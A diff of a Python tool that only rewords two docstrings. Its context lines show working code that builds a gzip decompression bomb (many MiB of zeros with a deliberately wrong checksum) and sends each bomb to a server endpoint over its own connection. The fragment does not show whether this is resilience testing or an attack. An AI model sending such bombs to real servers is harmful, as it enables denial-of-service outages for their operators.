@@ -29,7 +29,7 @@ _GZIP = 31
 
 
 def bomb() -> bytes:
-    """Returns `UNPACKED_MIB` MiB of zeros in gzip. Its checksum is wrong, but nobody should come to it."""
+    """Returns `UNPACKED_MIB` MiB of zeros in gzip. The checksum is wrong, but no server should get that far."""
     packer = zlib.compressobj(9, zlib.DEFLATED, _GZIP)
     head, block = (packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
     return head + block * (UNPACKED_MIB - 1) + packer.flush()
@@ -50,7 +50,7 @@ class Plan:
 
 
 def send(plan: Plan, body: bytes) -> bytes | None:
-    """Sends one on a connection of its own; returns the status, or None if there was none."""
+    """Sends one bomb on a connection of its own. Returns the status; None if there was none."""
     host, _, port = plan.endpoint.rpartition(":")
     request = plan.request(body)
     with socket.create_connection((host, int(port)), timeout=ANSWER_S) as connection:
